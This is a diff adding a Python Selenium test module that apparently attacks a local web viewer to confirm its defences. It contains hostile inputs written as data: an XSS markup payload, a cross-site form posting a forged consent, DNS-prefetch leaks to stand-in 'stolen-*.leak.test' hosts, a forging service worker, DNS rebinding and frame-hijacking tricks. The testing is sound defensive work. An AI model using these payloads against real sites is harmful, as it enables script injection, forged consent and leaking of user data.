@@ -1,0 +1,368 @@
+"""How the attacks of guard_cases.py are carried out. A scene gives what the attack got, or nothing."""
+import contextlib
+import http.client
+import json
+import re
+import socket
+import struct
+import threading
+import time
+
+from selenium.webdriver.common.by import By
+
+from origins import curtain, foreign_tries, hostile_address, inside, site_text, wait_site
+from story import HERE
+
+HOSTILE_LABEL = "<img src=x onerror=\"window.pwned=1\">"
+PLANT = "canarypage7f3a91"
+
+
+def neighbour_site(peer):
+    peer.write("index.html", f"<!doctype html><title>S</title><h1>shell home</h1><p>{PLANT}</p><img src=icon.svg>"
+               "<a id=out href='http://out.example/a'>out</a>")
+    peer.write("icon.svg", "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'></svg>")
+    peer.write("app.js", "window.foreignRan = 1;")
+    peer.write("style.css", "body { color: red; }")
+    peer.write("plain.html", "<!doctype html><title>P</title><script src=plain.js></script><p id=said>nothing</p>")
+    peer.write("plain.js", "addEventListener('load', () => { try { localStorage.setItem('x', 'y');"
+               "document.getElementById('said').textContent = 'storage of ' + origin; } catch (e) {} });")
+
+
+def token(port):
+    """What only the pages of the viewer hold."""
+    connection = http.client.HTTPConnection("127.0.0.1", int(port), timeout=5)
+    connection.request("GET", "/")
+    page = connection.getresponse().read().decode()
+    connection.close()
+    return page.partition('name="goop-token" content="')[2].partition('"')[0]
+
+
+def make_favourite(world):
+    """The neighbour becomes a favourite of the visitor's, as soon as it is listed."""
+    deadline = time.monotonic() + 20
+    while True:
+        connection = http.client.HTTPConnection("127.0.0.1", int(world.port), timeout=5)
+        connection.request("POST", "/api/rooms/peers/decide", json.dumps({"id": world.neighbour.id, "favorite": True}),
+                           {"Content-Type": "application/json", "X-Goop-Token": token(world.port)})
+        answer = connection.getresponse()
+        said = answer.read()
+        connection.close()
+        if answer.status == 200:
+            return
+        if time.monotonic() > deadline:
+            raise AssertionError(f"the neighbour is no favourite: {said[:200]}")
+        time.sleep(0.2)
+
+
+def address(world, **more):
+    return hostile_address(world.url, world.me, world.hostile, world.outside) + "".join(
+        f"&{name}={value}" for name, value in more.items())
+
+
+def here(world):
+    return f"{world.url}p/{world.hostile.id}/"
+
+
+# MARK: A hostile site
+
+def site(world, page, name):
+    """One attempt of hostile/attack.js, by its name."""
+    page.driver.get(address(world, only=name.replace(" ", "%20")))
+
+    def ended():
+        with contextlib.suppress(Exception), inside(page):
+            return page.run("return document.title") == "done"
+        return False
+    page.wait(ended, "the report", seconds=20)
+    with inside(page):
+        results = json.loads(page.run("return document.getElementById('results').textContent"))
+    if name not in results:
+        raise AssertionError(f"hostile/attack.js has no attempt {name!r}")
+    if world.hits:
+        return f"outside was asked for {world.hits[0]}"
+    return results[name][4:] if results[name].startswith("GOT ") else ""
+
+
+def leave(world, page, name):
+    """One way to lead frame or tab away, by its name in hostile/attack.js."""
+    source = (HERE / "hostile" / "attack.js").read_text()
+    names = re.findall(r'^  "([^"]+)":', source[source.index("const leaving = {"):source.index('if (asked.has("leave"))')], re.M)
+    page.driver.get(world.url)
+    page.driver.get(address(world, leave=names.index(name)))
+    page.wait(lambda: curtain(page) or (site_text(page) or "").endswith("leaving") or world.hits
+              or not page.driver.current_url.startswith(here(world)),
+              "the page")
+    time.sleep(1.2)  # for the attack to succeed, there is nothing to wait for
+    if world.hits:
+        return f"outside was asked for {world.hits[0]}"
+    if not page.driver.current_url.startswith(here(world)):
+        return f"the tab shows {page.driver.current_url}"
+    if len(page.driver.window_handles) > 1:
+        return "a window"
+    if curtain(page):
+        return ""
+    shown = site_text(page) or ""
+    for text in ("Your bank", "shell home", "People", "wrong address", "storage of"):
+        if text in shown:
+            return f"the frame shows {text!r}"
+    with contextlib.suppress(Exception), inside(page):
+        if page.run("return document.title") == "script ran":
+            return "the script ran"
+    return ""
+
+
+def click(world, page, kind):
+    """A person clicks what a hostile site put there: only then do browsers let a frame lead the tab away or open windows."""
+    page.driver.get(address(world, leave=99))
+    page.wait(lambda: (site_text(page) or "").endswith("leaving"), "the site")
+    make = {
+        "link to the top": "Object.assign(document.createElement('a'), {href: arguments[0], target: '_top'})",
+        "link to a new tab": "Object.assign(document.createElement('a'), {href: arguments[0], target: '_blank'})",
+        "form for the tab": "(() => { const f = Object.assign(document.createElement('form'), {action: arguments[0], target: '_top'});"
+                            "f.append(Object.assign(document.createElement('button'), {id: 'trap', textContent: 'trap'})); return f; })()",
+        "full screen": "Object.assign(document.createElement('button'), {onclick: () => document.documentElement.requestFullscreen().catch(() => {})})",
+        "pointer lock": "Object.assign(document.createElement('button'), {onclick: () => document.body.requestPointerLock()})",
+        "window": "Object.assign(document.createElement('button'), {onclick: () => open('/', '_blank')})",
+    }[kind]
+    with inside(page):
+        page.run(f"const e = {make}; if (!document.getElementById('trap')) {{ (e.querySelector?.('button') ?? e).id = 'trap';"
+                 "(e.querySelector?.('button') ?? e).textContent = 'trap'; } document.body.prepend(e)", f"http://127.0.0.1:{world.outside}/taken")
+        page.one("#trap").click()
+        time.sleep(0.8)
+    if len(page.driver.window_handles) > 1:
+        return "a window was opened"
+    if not page.driver.current_url.startswith(here(world)):
+        return f"the tab shows {page.driver.current_url}"
+    with inside(page):
+        if page.run("return document.fullscreenElement !== null"):
+            return "the site fills the screen"
+        if page.run("return document.pointerLockElement !== null"):
+            return "the site holds the pointer"
+    return ""
+
+
+def allowed(world, page, feature):
+    """What the site's frame may use, as the browser says."""
+    page.driver.get(address(world, leave=99))
+    page.wait(lambda: (site_text(page) or "").endswith("leaving"), "the site")
+    with inside(page):
+        return feature if page.run("return document.featurePolicy.allowsFeature(arguments[0])", feature) else ""
+
+
+def looked_up(world, page, name):
+    """Which names the browser asks a name service for while a hostile site hints at them; a way to tell somebody outside."""
+    asked = []
+    service = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    service.bind(("127.0.0.1", 53))
+
+    def answer():
+        while True:
+            try:
+                question, sender = service.recvfrom(2048)
+            except OSError:
+                return
+            labels, at = [], 12
+            while question[at]:
+                labels.append(question[at + 1:at + 1 + question[at]].decode("latin-1"))
+                at += 1 + question[at]
+            asked.append(".".join(labels))
+            service.sendto(question[:2] + struct.pack(">HHHHH", 0x8183, 1, 0, 0, 0) + question[12:at + 5], sender)
+    threading.Thread(target=answer, daemon=True).start()
+    try:
+        page.driver.get(address(world, leave=99))
+        page.wait(lambda: (site_text(page) or "").endswith("leaving"), "the site")
+        with inside(page):
+            page.run("for (const rel of ['dns-prefetch', 'preconnect']) { const l = document.createElement('link'); l.rel = rel;"
+                     "l.href = `http://stolen-${rel}.leak.test/`; document.head.append(l); }"
+                     "const a = document.createElement('a'); a.href = 'http://stolen-link.leak.test/'; a.textContent = 'x'; document.body.append(a);")
+        time.sleep(2)  # for the question to be asked, there is nothing to wait for
+    finally:
+        service.close()
+    return ", ".join(sorted({text for text in asked if text.endswith("leak.test") and name in text}))
+
+
+# MARK: A web page elsewhere
+
+def foreign_page(world, page):
+    page.driver.get(f"{world.url}p/{world.neighbour.id}/")  # the site is being visited meanwhile
+    page.wait(lambda: page.driver.find_elements(By.CSS_SELECTOR, "#frame-place iframe"), "a frame")
+    page.driver.switch_to.new_window("tab")
+    page.driver.get(f"http://evil.example:{world.outside}/")
+
+
+def foreign(world, page, name):
+    foreign_page(world, page)
+    got = page.run("return tryIt(arguments[0])", foreign_tries(world.url, world.neighbour)[name])
+    if world.consent(world.neighbour):
+        (world.me.folder / "data" / "consents.json").unlink()
+        return "the consent was given"
+    return got[4:] if got.startswith("GOT ") else ""
+
+
+def frames(world, page, what):
+    foreign_page(world, page)
+    target = {"the viewer": world.url, "the shell": f"{world.url}p/{world.neighbour.id}/",
+              "a site": f"{world.site(world.neighbour)}/p/{world.neighbour.id}/"}[what]
+    page.run("const f = document.createElement('iframe'); f.src = arguments[0]; document.body.append(f);"
+             "return within(new Promise((y) => { f.onload = y; }), 4000).catch(() => 0)", target)
+    page.driver.switch_to.frame(page.one("iframe"))
+    text = page.run("return document.body ? document.body.innerText : ''")
+    page.driver.switch_to.default_content()
+    return next((f"the frame shows {word!r}" for word in ("shell home", "People", "Neighbour") if word in text), "")
+
+
+def opened(world, page, _):
+    """The page keeps a hold on a viewer that it opened: it can lead that window to a page that looks alike."""
+    foreign_page(world, page)
+    page.run("const b = document.createElement('button'); b.id = 'go'; b.textContent = 'go';"
+             "b.onclick = () => { window.held = open(arguments[0]); }; document.body.append(b)", world.url)
+    tabs = set(page.driver.window_handles)
+    page.one("#go").click()
+    page.wait(lambda: set(page.driver.window_handles) - tabs, "the window")
+    page.driver.switch_to.window((set(page.driver.window_handles) - tabs).pop())
+    page.wait(lambda: page.driver.find_elements(By.ID, "me-name"), "the viewer")
+    page.driver.switch_to.window(page.driver.window_handles[1])
+    return "" if page.run("return !window.held || window.held.closed") else "it holds the viewer's window"
+
+
+def rebound(world, page, path):
+    """A name of somebody else that leads to this machine."""
+    page.driver.get(f"http://rebound.example:{world.port}/{path}")
+    time.sleep(0.5)
+    text = page.text()
+    return next((f"it reads {word!r}" for word in ("People", "Neighbour") if word in text), "")
+
+
+def posted(world, page, _):
+    """A form elsewhere that posts a consent to the viewer."""
+    foreign_page(world, page)
+    page.run("const f = document.createElement('form'); f.method = 'post'; f.enctype = 'text/plain'; f.action = arguments[0];"
+             "f.innerHTML = '<input>'; f.firstChild.name = arguments[1]; f.firstChild.value = arguments[2]; document.body.append(f); f.submit()",
+             f"{world.url}api/shell/consent", json.dumps({"peer": world.neighbour.id, "email": True, "x": ""})[:-2], '"}')
+    page.wait(lambda: page.driver.current_url.startswith(world.url), "the answer")
+    if world.consent(world.neighbour):
+        (world.me.folder / "data" / "consents.json").unlink()
+        return "the consent was given"
+    return ""
+
+
+# MARK: The viewer itself
+
+def label(world, page, _):
+    """A peer whose name is markup with a script in it."""
+    page.driver.get(world.url)
+    page.wait(lambda: page.driver.find_elements(By.CSS_SELECTOR, ".person a"), "somebody")
+    time.sleep(0.5)
+    return "its script ran in the viewer" if page.run("return window.pwned === 1") else ""
+
+
+def plain(world, page, _):
+    """A site's page as a browser without Sec-Fetch headers gets it: the file itself, on the viewer's address."""
+    page.driver.get(f"{world.url}p/{world.neighbour.id}/plain.html")
+    time.sleep(1)
+    text = page.text()
+    return text if text.startswith("storage of http://127.0.0.1") else ""
+
+
+def way_out(world, page, _):
+    """Who is told where somebody comes from that follows a link out."""
+    page.driver.get(f"{world.url}p/{world.neighbour.id}/")
+    wait_site(page, "shell home")
+    with inside(page):
+        page.run("document.getElementById('out').href = arguments[0]", f"http://out.example:{world.outside}/")
+        page.one("#out").click()
+    page.wait(lambda: f"out.example:{world.outside}" in curtain(page), "the target")
+    page.one("#curtain-open").click()
+    page.wait(lambda: world.hits, "the target being visited")
+    return next((hit for hit in world.hits if "from" in hit), "")
+
+
+def kept_files(world, page, _):
+    page.driver.get(f"{world.url}p/{world.neighbour.id}/")
+    wait_site(page, "shell home")
+    page.driver.get("about:blank")
+    return ""
+
+
+def cached(world, profile):
+    """Files of the profile that hold the page of a site that was visited."""
+    for path in profile.rglob("*"):
+        if path.is_file() and PLANT.encode() in path.read_bytes():
+            return f"the page is in {path.relative_to(profile)}"
+    return ""
+
+
+def forgotten(world, page, _):
+    """What a site still finds after the person had it forgotten."""
+    page.driver.get(f"{world.url}p/{world.neighbour.id}/")
+    wait_site(page, "shell home")
+    with inside(page):
+        page.run("localStorage.setItem('planted', 'still here')")
+    page.one("#rights").click()
+    page.one("#forget").click()
+    page.wait(lambda: "is forgotten" in curtain(page), "the end of it")
+    page.one("#curtain-show").click()
+    wait_site(page, "shell home")
+    with inside(page):
+        return page.run("return localStorage.getItem('planted')") or ""
+
+
+def visited_again(world, page, _):
+    """What a site finds at the visit after the one in which it stored something."""
+    for _ in range(2):
+        page.driver.get(f"{world.url}p/{world.neighbour.id}/")
+        wait_site(page, "shell home")
+        with inside(page):
+            found = page.run("return localStorage.getItem('planted')")
+            page.run("localStorage.setItem('planted', 'still here')")
+        page.driver.get(world.url)
+        time.sleep(5)  # the removal takes two seconds, and where it fails there is nothing to wait for
+    return found or ""
+
+
+LOGGED = "canarylog7f3a91"
+
+
+def log_after_visit(world, page, _):
+    page.driver.get(f"{world.url}p/{world.neighbour.id}/")
+    wait_site(page, "shell home")
+    with inside(page):
+        page.run("localStorage.setItem('planted', arguments[0]); sessionStorage.setItem('planted', arguments[0])", LOGGED)
+    page.driver.get(world.url)
+    page.wait(lambda: page.run("return localStorage.getItem('goop-visits')") is None, "the end of the visit", 20)
+    return ""
+
+
+def in_log(world, profile):
+    for path in profile.rglob("*"):
+        if path.is_file():
+            content = path.read_bytes()
+            if LOGGED.encode() in content or LOGGED.encode("utf-16-le") in content:
+                return f"what it stored is in {path.relative_to(profile)}"
+    return ""
+
+
+def made_up(world, page, _):
+    """A kept site's service worker answers with a page that no server sent, without any policy."""
+    outside = f"http://127.0.0.1:{world.outside}"
+    world.neighbour.write("w/index.html", "<!doctype html><title>w</title><h1>worker home</h1>")
+    world.neighbour.write("w/sw.js", "addEventListener('install', () => skipWaiting()); addEventListener('activate', (e) => e.waitUntil(clients.claim()));"
+                          "addEventListener('fetch', (e) => { if (e.request.url.endsWith('made-up.html')) e.respondWith(new Response("
+                          f"'<!doctype html><h1>made up</h1><img src={outside}/picture>',"
+                          "{headers: {'Content-Type': 'text/html', 'Allow-CSP-From': '*'}})); });")
+    page.driver.get(f"{world.url}p/{world.neighbour.id}/w/")
+    wait_site(page, "worker home")
+    if page.one("#keep").get_attribute("aria-pressed") != "true":
+        page.one("#keep").click()
+        page.one("#keep-yes").click()
+        page.wait(lambda: page.one("#keep").get_attribute("aria-pressed") == "true", "kept")
+    with inside(page):
+        page.driver.set_script_timeout(10)
+        said = page.driver.execute_async_script(
+            "const d = arguments[0]; navigator.serviceWorker.register('sw.js').then(() => navigator.serviceWorker.ready).then(() => d('ready'), (e) => d(String(e)))")
+        if said != "ready":
+            raise AssertionError(f"no service worker: {said}")
+        page.run("location.href = 'made-up.html'")
+    page.wait(lambda: "made up" in (site_text(page) or "") or world.hits, "the page that was made up")
+    time.sleep(1)  # for the request outside there is nothing to wait for
+    return f"outside was asked for {world.hits[0]}" if world.hits else ""
